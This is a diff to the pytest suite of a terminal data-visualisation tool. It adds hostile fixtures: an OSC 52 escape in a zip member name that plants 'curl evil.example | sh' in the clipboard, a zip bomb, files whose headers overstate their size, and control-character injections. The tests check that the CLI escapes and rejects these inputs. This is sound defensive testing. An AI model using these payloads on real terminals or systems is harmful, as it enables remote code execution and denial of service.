@@ -16,16 +16,20 @@ import struct
 import subprocess
 import sys
 import textwrap
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from digitmap_tui import cli
 from digitmap_tui.cache import TEMP_SUFFIX, EmbeddingCache, embedding_key
 from digitmap_tui.data import load_digits
 from digitmap_tui.embed import EmbedParams
+from digitmap_tui.text import is_safe
 
 REPO_ROOT = Path(__file__).resolve().parent.parent
 N = 40  # images in the corpus's good files
@@ -113,6 +117,58 @@ def build_corpus(d: Path) -> None:
     save(d / "emb_nan.npy", emb_nan)
     save(d / "emb_objects.npy", np.array([None] * N, dtype=object), allow_pickle=True)
     (d / "emb_text.csv").write_text("x,y\n" + "1,2\n" * (N - 1) + "foo,3\n")
+    build_hostile_corpus(d)
+
+
+#: An npz member name that writes `curl ... | sh` into the terminal's clipboard (OSC 52).
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+
+
+def build_hostile_corpus(d: Path) -> None:
+    """Files made to hurt: terminal injection, overflow, sizes no image needs."""
+    import io
+    import zipfile
+
+    from tests.hostile_files import npy_header, zip64_member
+
+    rng = np.random.default_rng(1)
+    good = io.BytesIO()
+    np.save(good, rng.random((N, 8, 8)))
+    with zipfile.ZipFile(d / "osc52.npz", "w") as zf:
+        zf.writestr(f"{OSC52}.npy", good.getvalue())
+        zf.writestr("other.npy", good.getvalue())
+    with zipfile.ZipFile(d / "lzma.npz", "w", zipfile.ZIP_LZMA) as zf:
+        zf.writestr("images.npy", good.getvalue())
+    with zipfile.ZipFile(d / "liar.npz", "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("images.npy", npy_header((3 * 2**26, 16)) + bytes(1024))
+    (d / "bomb.npz").write_bytes(
+        zip64_member("images.npy", zlib.compress(bytes(10**6))[2:-4], 24 * 2**30)
+    )
+    big = rng.random((N, 8, 8))
+    big[4, 1, 1] = 1e300
+    np.save(d / "e300.npy", big)
+    huge_ints = np.zeros((N, 8, 8), dtype=np.int64)
+    huge_ints[2, 0, 0] = 9 * 10**18
+    np.save(d / "int64_huge.npy", huge_ints)
+    header = npy_header((3, 2000, 2000), "|u1")
+    with open(d / "pixels.npy", "wb") as f:  # sparse: 12 MB long, nothing written
+        f.write(header)
+        f.truncate(len(header) + 3 * 2000 * 2000)
+    np.save(d / "labels_million.npy", np.arange(N) * 25_000)
+    emb = rng.random((N, 2))
+    emb[9] = (1.7e308, -1.7e308)
+    np.save(d / "emb_huge.npy", emb)
+    (d / "blank.csv").write_text("\n" * 1200 + "1,0,1,2,3\n")
+    (d / "wide.csv.gz").write_bytes(gzip.compress(b"0," * 1_100_000 + b"0\n"))
+    (d / "longline.csv.gz").write_bytes(gzip.compress(b"0" * (33 * 2**20)))
+    gz_images = _idx((5_000_000, 28, 28), 0x08)  # 3.9 GB promised by a tiny gzip
+    (d / "tall-images-idx3-ubyte.gz").write_bytes(gzip.compress(gz_images + bytes(1000)))
+    (d / "gzmagic-images-idx3-ubyte.gz").write_bytes(
+        gzip.compress(b"\x12\x34" + _idx((20, 6, 6))[2:] + bytes(720))
+    )
+    opened = d / "opencache"
+    opened.mkdir()
+    opened.chmod(0o777)
 
 
 @pytest.fixture(scope="module")
@@ -185,6 +241,25 @@ DATA_CASES: list[tuple[str, str, str]] = [
     ("seed-fractional", "--data {d}/ok.npy --seed 1.5", "--seed"),
     ("seed-too-large", "--data {d}/ok.npy --seed 4294967296", "--seed"),
     ("cache-dir-is-a-file", "--data {d}/ok.npy --cache-dir {d}/notes.txt", "--cache-dir"),
+    # hostile files and values (issue: nothing raw reaches the terminal, bounded cost)
+    ("npz-member-name-osc52", "--data {d}/osc52.npz", "found \\x1b]52;c;Y3Vyb"),
+    ("npz-lzma-member", "--data {d}/lzma.npz", "compression method 14"),
+    ("npz-header-promises-24GiB", "--data {d}/liar.npz", "its header promises"),
+    ("npz-zip-bomb", "--data {d}/bomb.npz", "zip bomb"),
+    ("images-squares-overflow", "--data {d}/e300.npy", "image 4 has the value 1e+300"),
+    ("images-int64-beyond-1e15", "--data {d}/int64_huge.npy", "image 2 has the value 9e+18"),
+    ("images-too-many-pixels", "--data {d}/pixels.npy", "at most 1,048,576 per image"),
+    ("labels-beyond-palette", "--data {d}/ok.npy --labels {d}/labels_million.npy", "0 to 255"),
+    ("csv-blank-lines", "--data {d}/blank.csv", "blank lines by line 1001"),
+    ("csv-too-many-columns", "--data {d}/wide.csv.gz", "1,100,001 columns"),
+    ("csv-gz-huge-line", "--data {d}/longline.csv.gz", "line 1 is longer than"),
+    ("idx-gz-size-beyond-file", "--data {d}/tall-images-idx3-ubyte.gz", "gzip file can hold"),
+    ("idx-gz-bad-magic", "--data {d}/gzmagic-images-idx3-ubyte.gz", "bad magic 0x12340803"),
+    ("shape-superscript", "--data {d}/ok.npy --shape ²x2", "--shape"),
+    ("shape-other-digits", "--data {d}/ok.npy --shape ٣x٣", "--shape"),
+    ("perplexity-below-a-third", "--data {d}/ok.npy --perplexity 0.2", "perplexity >= 1/3"),
+    ("seed-other-digits", "--data {d}/ok.npy --seed ٣", "--seed"),
+    ("cache-dir-others-can-write", "--data {d}/ok.npy --cache-dir {d}/opencache", "not safe"),
     ("unknown-flag", "--data {d}/ok.npy --bogus", "unrecognized arguments: --bogus"),
     ("stray-argument", "--data {d}/ok.npy stray", "unrecognized arguments: stray"),
 ]
@@ -197,6 +272,7 @@ EMBEDDING_CASES: list[tuple[str, str, str]] = [
     ("embedding-text", "--data {d}/ok.npy --embedding {d}/emb_text.csv", "'foo'"),
     ("embedding-directory", "--data {d}/ok.npy --embedding {d}/adir.npy", "is a directory"),
     ("embedding-type", "--data {d}/ok.npy --embedding {d}/notes.txt", "unsupported embedding"),
+    ("embedding-overflows", "--data {d}/ok.npy --embedding {d}/emb_huge.npy", "within ±1e+150"),
 ]
 # Flags of the two commands that draw (render, the explorer); the data is fine.
 GOOD = "--data {d}/ok.npy --embedding {d}/emb_ok.npy"
@@ -205,6 +281,8 @@ VIEW_CASES: list[tuple[str, str, str]] = [
     ("grid-huge", f"{GOOD} --grid 1000x1000", "between 1 and 64"),
     ("grid-words", f"{GOOD} --grid abc", "--grid 'abc'"),
     ("grid-three-numbers", f"{GOOD} --grid 4x4x4", "--grid"),
+    ("grid-superscript", f"{GOOD} --grid ²x2", "--grid '²x2'"),
+    ("grid-other-digits", f"{GOOD} --grid ٣x٣", "--grid '٣x٣'"),
     ("view-reversed", f"{GOOD} --view 1,0,0,1", "X0 < X1"),
     ("view-three-numbers", f"{GOOD} --view 0,1,0", "four numbers"),
     ("view-nan", f"{GOOD} --view 0,nan,0,1", "finite"),
@@ -551,3 +629,218 @@ def test_a_process_killed_mid_write_leaves_nothing_read_as_valid(tmp_path: Path)
     assert proc.returncode == 0, err
     assert json.loads(out)["n"] == 1797
     assert EmbeddingCache(cache_dir).load(entry.stem) is not None
+
+
+# ----- untrusted text never reaches the terminal raw ---------------------------------------------
+
+
+def test_the_osc52_member_name_through_the_real_cli_is_one_escaped_line(corpus: Path) -> None:
+    """The member name that put `curl ... | sh` in the clipboard is now shown, not obeyed."""
+    env = {k: v for k, v in os.environ.items() if k != "DIGITMAP_DEBUG"}
+    env["PYTHONPATH"] = str(REPO_ROOT)
+    proc = subprocess.run(
+        [sys.executable, "-m", "digitmap_tui", "render", "--data", str(corpus / "osc52.npz")],
+        capture_output=True,
+        env=env,
+        timeout=60,
+        stdin=subprocess.DEVNULL,
+    )
+    assert proc.returncode == 2
+    assert proc.stdout == b""
+    assert b"\x1b" not in proc.stderr and b"\x07" not in proc.stderr
+    err = proc.stderr.decode()
+    assert_one_line_error(2, "", err, "found \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07")
+
+
+def test_a_file_name_with_controls_is_escaped_in_render_output(
+    tmp_path: Path, corpus: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    name = "x\x1b]0;owned\x07\x0b\x0c\u2028[red]y.npy"
+    (tmp_path / name).write_bytes((corpus / "ok.npy").read_bytes())
+    argv = ["render", "--data", str(tmp_path / name), "--embedding", str(corpus / "emb_ok.npy")]
+    status, out, err = run_main([*argv, "--color", "never"], capsys)
+    assert status == 0, err
+    assert all(is_safe(line) for line in out.splitlines())
+    assert "x\\x1b]0;owned\\x07\\x0b\\x0c\\u2028[red]y.npy (40)" in out.splitlines()[0]
+
+
+def test_a_stray_argument_with_controls_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    status, out, err = run_main(["render", "\x1b]52;c;eA==\u2028\x07"], capsys)
+    assert_one_line_error(status, out, err, "unrecognized arguments: \\x1b]52;c;eA==\\u2028\\x07")
+
+
+UNSAFE = st.text(
+    st.one_of(
+        st.sampled_from(list("\x00\x07\x08\t\n\x0b\x0c\r\x1b\x7f\x85\x9b\u2028\u2029\u202e[]")),
+        st.characters(exclude_categories=("Cs",)),
+    ),
+    min_size=1,
+    max_size=16,
+)
+WHERE = st.sampled_from(
+    ["file", "empty-file", "member", "csv-cell", "labels-text", "flag", "stray", "bookmark"]
+)
+
+
+@settings(
+    max_examples=150,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(where=WHERE, text=UNSAFE, flag=st.sampled_from(["--grid", "--view", "--box", "--shape"]))
+def test_no_output_line_holds_a_control_character(
+    corpus: Path, capsys: pytest.CaptureFixture[str], where: str, text: str, flag: str
+) -> None:
+    """Whatever a file or a flag holds, every line out is escaped; an error is one line."""
+    import io
+    import tempfile
+    import zipfile
+
+    with tempfile.TemporaryDirectory() as tmp:
+        d = Path(tmp)
+        emb = ["--embedding", str(corpus / "emb_ok.npy")]
+        argv = ["render", "--data", str(corpus / "ok.npy"), *emb]
+        if where in ("file", "empty-file"):
+            name = text.replace("/", "_").replace("\x00", "_") + ".npy"
+            if len(os.fsencode(name)) > 200:
+                name = name[:40] + ".npy"
+            path = d / name
+            path.write_bytes(b"" if where == "empty-file" else (corpus / "ok.npy").read_bytes())
+            argv = ["render", "--data", str(path), *emb]
+        elif where == "member":
+            good = io.BytesIO()
+            np.save(good, np.zeros((N, 8, 8)))
+            with zipfile.ZipFile(d / "m.npz", "w") as zf:
+                zf.writestr(text.replace("\x00", "_"), good.getvalue())  # zipfile cuts at NUL
+                zf.writestr("other", good.getvalue())
+            argv = ["render", "--data", str(d / "m.npz"), *emb]
+        elif where == "csv-cell":
+            cell = text.replace(",", ";").replace('"', "'")
+            rows = "".join(f"{i % 3},0,1,2,3\n" for i in range(N - 1))
+            (d / "c.csv").write_text(f"label,a,b,c,d\n{rows}1,0,{cell},2,3\n", encoding="utf-8")
+            argv = ["render", "--data", str(d / "c.csv"), *emb]
+        elif where == "labels-text":
+            lines = "\n".join(["1"] * (N - 1) + [text.replace("\n", " ").replace("\r", " ")])
+            (d / "l.txt").write_text(lines + "\n", encoding="utf-8")
+            argv = [*argv, "--labels", str(d / "l.txt")]
+        elif where == "flag":
+            argv = [*argv, f"{flag}={text}"]
+        elif where == "stray":
+            argv = [*argv, text]
+        else:  # a hand-edited bookmarks file
+            write_bookmark(corpus, {text: {"saved": "now", "state": {"grid": [4, 4]}}})
+            argv = [*argv, "--bookmark", "nothing-by-this-name"]
+        status, out, err = run_main([*argv, "--color", "never"], capsys)
+    assert status in (0, 2), err
+    for line in (out + err).splitlines():
+        assert is_safe(line), f"unescaped text in {line!r}"
+    if status == 2:
+        assert out == ""
+        assert len(err.splitlines()) == 1 and err.startswith("digitmap: error: ")
+
+
+# ----- bookmark states from disk: the flags' rules, before anything is printed ------------------
+
+
+def write_bookmark(corpus: Path, marks: dict[str, object]) -> Path:
+    """A bookmarks file (hand-edited, unchecked) for GOOD's dataset and embedding."""
+    from digitmap_tui.bookmarks import scope_key
+    from digitmap_tui.data import load_dataset
+
+    scope = scope_key(load_dataset(corpus / "ok.npy").fingerprint(), "embedding emb_ok.npy")
+    path = Path(os.environ["DIGITMAP_DATA_DIR"]) / "bookmarks.json"
+    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
+    path.write_text(json.dumps({"version": 1, "scopes": {scope: {"bookmarks": marks}}}))
+    return path
+
+
+GOOD_STATE = {"view": [-1, 2, -1, 2], "box": [0, 1, 0, 1], "grid": [4, 4], "mode": "label"}
+BOOKMARK_CASES: list[tuple[str, dict[str, object], str]] = [
+    ("grid-strings", {"grid": ["a", "b"]}, 'grid ["a", "b"]: expected [rows, cols]'),
+    ("grid-huge", {"grid": [100000, 100000]}, "between 1 and 64"),
+    ("grid-zero", {"grid": [0, 0]}, "between 1 and 64"),
+    ("view-nan", {"view": [0, float("nan"), 0, 1]}, "expected four finite numbers"),
+    ("view-reversed", {"view": [1, 0, 0, 1]}, "X0 < X1"),
+    ("box-overflows", {"box": [-1e308, 1e308, 0, 1]}, "too large"),
+    ("mode-unknown", {"mode": "\x1b[31m"}, 'mode "\\u001b[31m"'),
+    ("method-unknown", {"method": "pickle"}, 'method "pickle"'),
+    ("params-seed", {"method": "tsne", "params": {"seed": -1}}, "seed -1"),
+    ("params-perplexity", {"method": "tsne", "params": {"perplexity": 0.1}}, "1/3"),
+    ("sort-unknown", {"sort": ["x"]}, "expected one of index, x, y, label"),
+]
+
+
+@pytest.mark.parametrize("command", ["render", "explore"])
+@pytest.mark.parametrize(("name", "change", "fragment"), BOOKMARK_CASES)
+def test_a_bad_bookmark_state_is_one_line_before_any_output(
+    corpus: Path,
+    capsys: pytest.CaptureFixture[str],
+    explorer_has_a_terminal: None,
+    command: str,
+    name: str,
+    change: dict[str, object],
+    fragment: str,
+) -> None:
+    write_bookmark(corpus, {"b": {"saved": "now", "state": {**GOOD_STATE, **change}}})
+    argv = [command, *GOOD.format(d=corpus).split(), "--bookmark", "b"]
+    status, out, err = run_main(argv, capsys)
+    assert_one_line_error(status, out, err, fragment)
+    assert err.startswith(("digitmap: error: --bookmark b: ", "digitmap: error: bookmark: "))
+
+
+def test_a_good_bookmark_renders(corpus: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    write_bookmark(corpus, {"b": {"saved": "now", "state": GOOD_STATE}})
+    argv = ["render", *GOOD.format(d=corpus).split(), "--bookmark", "b", "--json"]
+    status, out, err = run_main(argv, capsys)
+    assert status == 0, err
+    assert json.loads(out)["box"] == [0, 1, 0, 1]
+
+
+def test_a_deeply_nested_bookmarks_file_is_moved_aside_in_one_line(
+    corpus: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = write_bookmark(corpus, {})
+    path.write_text("[" * 200_000 + "]" * 200_000)
+    argv = ["render", *GOOD.format(d=corpus).split(), "--bookmark", "b"]
+    status, out, err = run_main(argv, capsys)
+    assert_one_line_error(status, out, err, "(nested more than 64 levels deep); moved aside")
+    assert len(list(path.parent.glob("bookmarks.json.damaged-*"))) == 1
+    assert not path.exists()
+
+
+# ----- output paths ------------------------------------------------------------------------------
+
+
+def test_embed_out_into_a_read_only_place_is_refused_before_computing(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_fileio import tiny_tmpfs
+
+    with tiny_tmpfs(tmp_path / "ro", read_only=True) as ro:
+        argv = ["embed", "--method", "pca", "--out", str(ro / "coords.npy")]
+        status, out, err = run_main(argv, capsys)
+    assert_one_line_error(status, out, err, f"--out {ro}/coords.npy: cannot write in {ro} (")
+    assert embedding_entries() == []  # nothing was computed (and so nothing cached)
+
+
+def test_embed_out_on_a_full_disk_names_the_flag_and_the_path(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.test_fileio import tiny_tmpfs
+
+    with tiny_tmpfs(tmp_path / "full", size="16k") as full:
+        target = full / "coords.csv"
+        argv = ["embed", "--method", "pca", "--no-cache", "--out", str(target)]
+        status, out, err = run_main(argv, capsys)
+        assert_one_line_error(status, out, err, f"--out {target}: disk full (")
+        assert list(full.iterdir()) == []
+
+
+def test_an_uncreatable_default_cache_means_no_cache_not_an_error(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "file").write_text("")
+    monkeypatch.setenv("DIGITMAP_CACHE_DIR", str(tmp_path / "file" / "cache"))  # cannot exist
+    status, out, err = run_main(["render", "--method", "pca", "--json"], capsys)
+    assert status == 0, err
+    assert json.loads(out)["n"] == 1797
